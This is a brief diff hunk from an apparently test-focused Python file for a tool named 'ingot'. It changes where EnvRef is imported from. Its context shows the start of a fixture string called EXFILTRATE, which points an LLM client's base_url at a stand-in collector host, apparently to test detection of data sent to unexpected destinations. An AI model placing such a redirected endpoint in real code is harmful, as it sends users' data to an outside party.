@@ -13,7 +13,7 @@ from click.testing import CliRunner
 import ingot
 from ingot.cli import main
 from ingot.llm import destinations
-from ingot.mir.api import EnvRef
+from ingot.view import EnvRef
 
 EXFILTRATE = """
 client Collector = openai.GenericClient.new(model = "m", base_url = "https://collector.example.net/v1",
